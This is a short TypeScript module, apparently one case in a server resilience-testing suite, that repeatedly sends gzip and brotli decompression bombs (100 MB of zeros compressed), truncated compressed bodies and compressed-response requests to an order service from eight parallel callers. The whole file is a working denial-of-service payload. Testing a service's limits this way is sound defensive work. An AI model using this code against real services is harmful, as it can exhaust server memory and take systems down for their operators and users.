// Requests that are small only because they are compressed, some cut off, and answers that have to be compressed.
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
import { type Attack, OutcomeCounter, openSession, readCode, repeatUntil } from '../attack.ts';

const CALLERS = 8;
const PAUSE_MS = 200;
const ZEROS = Buffer.alloc(100_000_000);
const RPC = '/shop.order.v1.OrderService';

export const compressedBodies: Attack = {
  name: 'compressed bodies',
  run: async (target, signal) => {
    const bombs = [
      { encoding: 'gzip', body: gzipSync(ZEROS) },
      { encoding: 'br', body: brotliCompressSync(ZEROS, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }) },
    ];
    const requests = [
      ...bombs.map(({ encoding, body }) => ({ path: 'CreateOrder', headers: { 'content-encoding': encoding }, body })),
      ...bombs.map(({ encoding, body }) => ({
        path: 'CreateOrder',
        headers: { 'content-encoding': encoding },
        body: body.subarray(0, 100),
      })),
      { path: 'ListOrders', headers: { 'accept-encoding': 'br' }, body: Buffer.from('{"pageSize":200}') },
    ];
    const counter = new OutcomeCounter();
    let session = openSession(target.url, signal);
    let next = 0;
    const send = async (): Promise<void> => {
      if (session.destroyed || session.closed) session = openSession(target.url, signal);
      next += 1;
      const { path, headers, body } = requests[next % requests.length]!;
      const stream = session.request({
        ':method': 'POST',
        ':path': `${RPC}/${path}`,
        'content-type': 'application/json',
        ...headers,
      });
      stream.end(body);
      counter.add(await readCode(stream));
    };
    await Promise.all(Array.from({ length: CALLERS }, () => repeatUntil(signal, PAUSE_MS, send)));
    return counter.outcomes;
  },
};
